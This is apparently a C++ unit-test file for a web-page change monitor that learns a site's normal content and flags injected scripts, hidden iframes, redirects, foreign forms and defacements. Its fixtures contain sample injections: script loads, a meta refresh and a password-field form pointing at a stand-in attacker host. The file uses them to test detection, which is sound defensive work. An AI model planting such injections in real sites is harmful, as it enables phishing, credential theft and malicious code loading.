#include "lib/change/page_watch.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "lib/change/explain.hpp"
#include "lib/change/memory_codec.hpp"
#include "lib/change/page_memory.hpp"
#include "lib/html/extract.hpp"

namespace webmon::change {
namespace {

/// A page of forty paragraphs of different words; `more` stands before its end.
std::string body(const std::string& more = {}, const std::string& top = {}) {
  std::string html =
      "<html><head><title>Bread and cake</title></head><body>" + top + "<h1>Our shop</h1>";
  for (int i = 0; i < 40; ++i) {
    const char letter = static_cast<char>('a' + i % 26);
    html += "<p>loaf " + std::string(3, letter) + " and roll " + std::string(4, letter) + " cost " +
            std::to_string(i) + "</p>";
  }
  return html + "<a href='https://partner.example/'>our partner</a><form action='/find'></form>" +
         more + "</body></html>";
}

/// So many words that are nowhere else.
std::string words(int count) {
  std::string text;
  for (int i = 0; i < count; ++i) {
    text += std::string(1, static_cast<char>('a' + i % 26)) + "zq" +
            std::string(1, static_cast<char>('a' + i / 26)) + "x ";
  }
  return text;
}

class PageWatch : public ::testing::Test {
 protected:
  StoreTime now() const { return store_time_ms(1'700'000'000'000 + 60'000 * minute_); }
  Verdict see(const std::string& html) {
    ++minute_;
    Page page;
    page.url = *parse_url("https://shop.example/");
    page.outcome = Outcome::ok;
    page.status = 200;
    page.body = html;
    page.observed_at = now();
    extract_features(page.body, "text/html", page.features);
    return watch(page, memory_, guidance_);
  }
  void learn(int times = 30) {
    for (int i = 0; i < times; ++i) ASSERT_FALSE(see(body()).is_alert);
  }
  std::string memory_;
  Guidance guidance_;
  int minute_ = 0;
};

bool carries(const Verdict& verdict, Sign sign) {
  return std::ranges::any_of(verdict.score.parts,
                             [&](const Part& part) { return part.sign == sign; });
}

TEST_F(PageWatch, SaysNothingDuringWarmup) {
  const Verdict first = see(body());
  EXPECT_FALSE(first.is_settled);
  EXPECT_EQ(first.score.value, 0);
  EXPECT_FALSE(see("<title>x</title>").is_alert);
  learn();
  EXPECT_TRUE(see(body()).is_settled);
}

TEST_F(PageWatch, AnInjectionIsAnAlertAndSaysWhatCarriedIt) {
  struct Case {
    const char* what;
    std::string html;
    Sign sign;
  };
  const std::string hidden_frame = "<iframe src='//evil.example/x' width=1 height=1></iframe>";
  for (const Case& c :
       {Case{"script", body("<script src='//evil.example/x.js'></script>"), Sign::script_new},
        Case{"hidden frame", body(hidden_frame), Sign::frame_hidden},
        Case{"frame", body("<iframe src='//evil.example/x'></iframe>"), Sign::frame_new},
        Case{"refresh", body("<meta http-equiv=refresh content='0;url=//evil.example/'>"),
             Sign::refresh_new},
        Case{"form", body("<form action='//evil.example/'><input type=password></form>"),
             Sign::form_new},
        Case{"cut", body().substr(0, 1500), Sign::end_lost}}) {
    memory_.clear();
    learn();
    const Verdict verdict = see(c.html);
    EXPECT_TRUE(verdict.is_alert) << c.what;
    EXPECT_TRUE(carries(verdict, c.sign)) << c.what;
  }
}

TEST_F(PageWatch, AScriptOfADomainThatThePageHasLinkedToIsLessSuspect) {
  const std::string link = "<a href='https://example.org/'>our printer</a>";
  for (int i = 0; i < 30; ++i) ASSERT_FALSE(see(body(link)).is_alert);
  const std::string before = memory_;
  const Verdict stranger = see(body(link + "<script src='//cdn.example.net/x.js'></script>"));
  memory_ = before;
  const Verdict partner = see(body(link + "<script src='//cdn.example.org/x.js'></script>"));
  EXPECT_TRUE(carries(stranger, Sign::script_new));
  EXPECT_TRUE(stranger.is_alert);
  EXPECT_FALSE(carries(partner, Sign::script_new));
  EXPECT_FALSE(partner.is_alert);
}

TEST_F(PageWatch, ALineAtTheTopOfALargePageIsSeenThoughFewOfItsPiecesAreRemembered) {
  std::string rows;
  for (int i = 0; i < 3'000; ++i) {
    std::string word = "row";
    for (const char c : std::to_string(i)) word += static_cast<char>('a' + (c - '0'));
    rows += "<p>" + word;
  }
  for (int i = 0; i < 22; ++i)
    ASSERT_FALSE(
        see(body(rows + "<p>" + std::string(1, static_cast<char>('a' + i % 26)))).is_alert);
  ASSERT_GT(decode(memory_)->piece_shift, 1);
  const std::string before = memory_;
  for (int i = 0; i < 10; ++i) {
    memory_ = before;
    const std::string name = words(i + 1).substr(std::size_t{6} * static_cast<std::size_t>(i));
    const Verdict verdict = see(body(rows, "<h2>Hacked by " + name + "</h2>"));
    EXPECT_TRUE(carries(verdict, Sign::novel_first)) << name;
  }
}

TEST_F(PageWatch, AChangeThatStaysIsAcceptedOnAPageOfWhichSomeIsNewEachTimeToo) {
  const auto lively = [&](const std::string& more) {
    std::string text;
    for (int i = 0; i < 10; ++i) {
      std::string word = "n";
      for (const char c : std::to_string(1'000 * i + minute_))
        word += static_cast<char>('a' + (c - '0'));
      text += "<p>" + word + "</p>";
    }
    return body(text + more);
  };
  for (int i = 0; i < 40; ++i) see(lively(""));
  const std::string script = "<script src='//statistics.example/x.js'></script>";
  ASSERT_TRUE(see(lively(script)).is_alert);
  EXPECT_FALSE(see(lively(script)).is_alert);
}

TEST_F(PageWatch, MoreOfTheSameIsNoAlert) {
  learn();
  EXPECT_FALSE(see(body("<p>loaf aaa and roll bbbb cost 7</p>")).is_alert);
  EXPECT_FALSE(see(body("<p>loaf ccc and loaf dddd cost 123</p>")).is_alert);
}

TEST_F(PageWatch, ReturningToAKnownStateIsNoAlert) {
  learn();
  ASSERT_TRUE(see(body("<script src='//evil.example/x.js'></script>")).is_alert);
  EXPECT_FALSE(see(body()).is_alert);
}

TEST_F(PageWatch, TheSameBytesAreLearnedAsIfTheyHadBeenCompared) {
  learn(25);
  const std::string before = memory_;
  see(body());
  const auto quick = decode(memory_);
  memory_ = before;
  see(body() + "<!-- 1 -->");  // nothing that is compared
  const auto whole = decode(memory_);
  ASSERT_TRUE(quick && whole);
  EXPECT_NE(quick->last, whole->last);
  EXPECT_EQ(quick->seen, whole->seen);
  EXPECT_EQ(quick->novelty, whole->novelty);
  EXPECT_EQ(quick->changes, whole->changes);
  EXPECT_EQ(quick->pieces, whole->pieces);
  EXPECT_EQ(quick->words, whole->words);
  EXPECT_EQ(quick->versions.size(), whole->versions.size());
}

TEST_F(PageWatch, AChangeWithoutSignsOfAttackIsAcceptedWhenItStays) {
  learn();
  const std::string with_script = body("<script src='//new.example/x.js'></script>");
  ASSERT_TRUE(see(with_script).is_alert);
  EXPECT_FALSE(see(with_script).is_alert);
  EXPECT_FALSE(see(with_script).is_alert);
}

TEST_F(PageWatch, WhatComesOnTopOfAChangeIsNotAcceptedWithIt) {
  learn();
  const std::string news = "<h2>" + words(60) + "</h2>",
                    script = "<script src='//new.example/x.js'></script>";
  ASSERT_TRUE(see(body(script, news)).is_alert);
  EXPECT_TRUE(see(body(script + "<script src='//evil.example/x.js'></script>", news)).is_alert);
}

TEST_F(PageWatch, OneWithASignOfAttackIsNot) {
  learn();
  const std::string bad = body("<meta http-equiv=refresh content='0;url=//evil.example/'>");
  for (int i = 0; i < 10; ++i) EXPECT_TRUE(see(bad).is_alert) << i;
}

const std::string kRefresh = "<meta http-equiv=refresh content='0;url=//evil.example/'>";

TEST_F(PageWatch, WhatWasApprovedIsThePagesOwnAndNothingElse) {
  learn();
  ASSERT_TRUE(see(body(kRefresh)).is_alert);
  guidance_.approved = now();
  EXPECT_TRUE(
      see(body(kRefresh + "<iframe src='//evil.example/' hidden></iframe>", "<h2>" + words(90)))
          .is_alert);
  guidance_.approved = {};
  ASSERT_TRUE(see(body(kRefresh)).is_alert);
  guidance_.approved = now();
  EXPECT_FALSE(see(body(kRefresh)).is_alert);
  EXPECT_LT(see(body(kRefresh)).score.value, kAlert) << "it was learned";
}

TEST_F(PageWatch, WhatWasRejectedIsNotAcceptedByStaying) {
  learn();
  const std::string with_script = body("<script src='//new.example/x.js'></script>");
  ASSERT_TRUE(see(with_script).is_alert);
  guidance_.rejected = now();
  for (int i = 0; i < 5; ++i) EXPECT_TRUE(see(with_script).is_alert) << i;
  guidance_.approved = guidance_.rejected - seconds{1};
  EXPECT_TRUE(see(with_script).is_alert) << "the last decision holds";
  EXPECT_FALSE(see(body()).is_alert) << "the known state";
}

TEST_F(PageWatch, DuringAnExpectedChangeEverythingIsLearned) {
  learn();
  guidance_.expected_until = now() + seconds{150};
  EXPECT_FALSE(see(body(kRefresh)).is_alert);
  EXPECT_FALSE(see("<html><body><p>" + words(60) + "</body></html>").is_alert);
  EXPECT_TRUE(see(body("<script src='//evil.example/x.js'></script>")).is_alert) << "it is over";
  EXPECT_FALSE(see(body(kRefresh)).is_alert);
}

TEST_F(PageWatch, WhoWantsFewerFalseAlertsGetsFewerAlertsOfALivelyPage) {
  for (int i = 0; i < 60; ++i) see(body("<p>today " + words(i % 12 + 1) + "</p>"));
  const std::string before = memory_, html = body("<script src='//new.example/x.js'></script>");
  const Verdict usual = see(html);
  ASSERT_EQ(usual.alert, kAlert);
  guidance_.false_alerts_a_year = 0.1;
  memory_ = before;
  const Verdict quiet = see(html);
  EXPECT_EQ(quiet.score.value, usual.score.value);
  EXPECT_GT(quiet.alert, kAlert);
  guidance_.false_alerts_a_year = 1e6;
  memory_ = before;
  EXPECT_LT(see(html).alert, kAlert);
}

TEST_F(PageWatch, AnAlertSaysWhatItIsWhyAndHowMuchOfTheScoreEachSignIs) {
  learn();
  const Finding finding = explain(see(body("<script src='//evil.example/x.js'></script>")));
  EXPECT_EQ(finding.code, "excessive_change");
  EXPECT_EQ(finding.severity, Severity::warn);
  EXPECT_NE(finding.message.find("the 30 observations"), std::string::npos) << finding.message;
  EXPECT_NE(finding.message.find("a script of a new host"), std::string::npos) << finding.message;
  EXPECT_NE(finding.evidence.find("script_new=0.693 mean=0 sd=0 n=29 part="), std::string::npos)
      << finding.evidence;
  EXPECT_NE(finding.evidence.find("evil.example"), std::string::npos) << finding.evidence;
  EXPECT_EQ(explain(see(body(kRefresh))).severity, Severity::crit);
}

TEST_F(PageWatch, MemoryIsBoundedAndReadAsItWasWritten) {
  std::string huge = "<html><body>";
  for (int i = 0; i < 6'000; ++i) {
    const std::string n = std::to_string(i * 7919);
    std::string word;
    for (const char c : n) word += static_cast<char>('a' + (c - '0'));
    huge += "<p>" + word + " <a href='https://" + word + ".example/'>" + word + "x</a></p>";
  }
  for (int i = 0; i < 25; ++i) see(huge + "<p>" + std::string(1, static_cast<char>('a' + i)));
  ASSERT_TRUE(see(huge + "<meta http-equiv=refresh content='0;url=//evil.example/'>").is_alert)
      << "so that a version waits, too";
  EXPECT_LE(memory_.size(), kMaxMemory);
  const auto memory = decode(memory_);
  ASSERT_TRUE(memory);
  EXPECT_EQ(encode(*memory), memory_);
}

// A page so small that one element is much of it, and that never changes.
TEST_F(PageWatch, OneThingPutInIsToldOnTheSmallestStillPage) {
  const auto small = [](const std::string& more) {
    return "<html><head><title>Shop</title></head><body><p>bread and cake</p>" + more +
           "</body></html>";
  };
  for (int i = 0; i < 30; ++i) see(small(""));
  const std::string before = memory_;
  for (const char* put_in :
       {"<script src='//new.example/x.js'></script>", "<iframe src='//new.example/'></iframe>",
        "<form action='//new.example/'><input name=card></form>"}) {
    memory_ = before;
    EXPECT_TRUE(see(small(put_in)).is_alert) << put_in;
  }
  memory_ = before;
  EXPECT_FALSE(see(small("<script src='https://code.jquery.com/jquery.js'></script>")).is_alert);
}

TEST_F(PageWatch, AnAlertIsSetBesideWhatThePageUsedToDo) {
  for (int i = 0; i < 40; ++i) {
    see(body("<p>" + std::string(3, static_cast<char>('a' + i % 26)) + words(i % 2) + "</p>"));
  }
  const Verdict verdict =
      see(body("<p>" + words(60) + "</p><script src='//evil.example/'></script>"));
  ASSERT_TRUE(verdict.is_alert);
  const auto part =
      std::ranges::find_if(verdict.score.parts, [](const Part& one) { return one.usual.mean > 0; });
  ASSERT_NE(part, verdict.score.parts.end());
  EXPECT_EQ(part->usual.n, 39U);
  EXPECT_GT(part->value, part->usual.mean + 3 * part->usual.sd);
}

TEST_F(PageWatch, AMemoryOfTheVersionBeforeIsReadAndItsSignsAreCountedFromNowOn) {
  learn();
  constexpr std::size_t kNoSigns = 5;  // that none is told, and until
  memory_.front() = 1;
  memory_.resize(memory_.size() - kNoSigns);
  ASSERT_FALSE(see(body()).is_alert) << "which leaves all but the head as it is";
  const auto memory = decode(memory_);
  ASSERT_TRUE(memory);
  EXPECT_EQ(memory->seen, 31U);
  EXPECT_EQ(memory->signs.from, 31U);
  see(body("<p>loaf aaa and roll bbbb cost 7</p>"));
  EXPECT_EQ(memory_.front(), 2);
  const Verdict verdict = see(body("<script src='//evil.example/x.js'></script>"));
  ASSERT_TRUE(carries(verdict, Sign::script_new));
  EXPECT_EQ(verdict.score.parts.front().usual.n, 1U);
}

TEST_F(PageWatch, BytesThatAreNoMemoryBeginANewOne) {
  learn();
  const std::string good = memory_;
  for (std::size_t size = 0; size < good.size(); size += 13)
    EXPECT_FALSE(decode(good.substr(0, size)));
  EXPECT_FALSE(decode(good + "x"));
  memory_ = good.substr(0, good.size() / 2);
  EXPECT_FALSE(see(body("<p>more</p>")).is_settled);
}

TEST(Signs, EachHasANameAndWords) {
  for (std::size_t i = 0; i < kSigns; ++i) {
    EXPECT_FALSE(to_string(static_cast<Sign>(i)).empty()) << i;
    EXPECT_FALSE(in_words(static_cast<Sign>(i)).empty()) << to_string(static_cast<Sign>(i));
  }
}

}  // namespace
}  // namespace webmon::change
